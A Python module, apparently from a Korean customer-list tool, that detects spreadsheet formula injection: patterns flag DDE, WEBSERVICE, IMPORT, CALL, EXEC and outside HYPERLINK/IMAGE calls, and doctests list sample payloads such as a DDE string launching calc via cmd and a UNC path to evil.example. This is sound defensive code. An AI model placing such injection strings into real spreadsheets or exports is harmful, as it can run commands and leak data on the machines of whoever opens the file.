"""What a formula reaches for outside its workbook, and which texts would be formulas.

Spreadsheets start programs (DDE), fetch pages (WEBSERVICE, Google's IMPORT…) and lead to them
(HYPERLINK) as formulas say. What of that stands in a list of customers somebody else may have put
there, by a form or a file.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from xlcrm.domain.text import lazy

if TYPE_CHECKING:
    from collections.abc import Iterator

_STRINGS: Final = lazy(r"\"(?:[^\"]|\"\")*\"|'(?:[^']|'')*'")
_PIPE: Final = lazy(r"\|[^!]*!")
_CALLS: Final = lazy(
    r"(?i)(?<![\w.])(?:_xlfn\.)?(?:_xlws\.)?(WEBSERVICE|IMPORT(?:XML|DATA|FEED|HTML|RANGE)|RTD|DDE"
    r"|CALL|REGISTER(?:\.ID)?|EXEC|HYPERLINK|IMAGE)\s*\("
)
_OUTSIDE: Final = lazy(  # of machines in the same network those that a bare name or number tells
    r"(?i)(?:https?|ftp):|(?:\\\\|//)(?!(?:10|127|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.)"
    r"[\w-]+(?:\.[\w-]+)+(?:@\d+|@ssl)*[\\/]"
)
_FORMULA: Final = lazy(
    r"[ \t\r\n]*(?:[=\uff1d]\S|[+\uff0b\-\uff0d][A-Za-z(]|[@\uff20][A-Za-z]+\(|[+\-@][^|]*\|[^!]*!)"
)
FORMULA_SIGNS: Final = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
"""What texts that become formulas begin with, but for spaces."""


def is_outside(address: str) -> bool:
    r"""Tell whether an address, or a formula that holds one, leads out of the office.

    >>> far = ("https://x.kr/a", r"\\evil.example\a", "file://x.kr/a.xlsx")
    >>> near = ("#고객대장!A1", r"\\nas\a", r"\\192.168.0.9\a", "file:///C:/a.xlsx")
    >>> [*map(is_outside, far)], [*map(is_outside, near)]
    ([True, True, True], [False, False, False, False])
    """
    return _OUTSIDE.search(address) is not None


def reaches(formula: str) -> Iterator[str]:
    """Yield by what a formula, its sign left out, reaches for something outside its workbook.

    A HYPERLINK or IMAGE only where an address is written in it; one within the workbook is none.

    >>> [*reaches('WEBSERVICE("http://x.kr/"&A1)'), *reaches("cmd|'/C calc'!A0")]
    ['WEBSERVICE', 'DDE']
    >>> [*reaches('HYPERLINK("#고객대장!A1","|!")'), *reaches("SUM('A|B'!A1:A3)")]
    []
    """
    bare = _STRINGS.sub(lambda match: match[0][0] * 2, formula)
    if _PIPE.search(bare):
        yield "DDE"
    for name in dict.fromkeys(match[1].upper() for match in _CALLS.finditer(bare)):
        if name not in {"HYPERLINK", "IMAGE"} or is_outside(formula):
            yield name


def is_formula_text(text: str) -> bool:
    r"""Tell whether a text becomes a formula as soon as somebody edits its cell, or a CSV of it.

    A number with its country, an amount and a note behind a dash do not, or lose nothing.

    >>> [is_formula_text(text) for text in ("=1+1", "＝A1", "+SUM(A1)", "-2+cmd|' /C calc'!A0")]
    [True, True, True, True]
    >>> texts = ("+82 10-1234-5678", "-", "-5,000원", "- 재계약 상담", "@", "@minsu", "\t010-1")
    >>> [text for text in texts if is_formula_text(text)]
    []
    """
    return _FORMULA.match(text) is not None
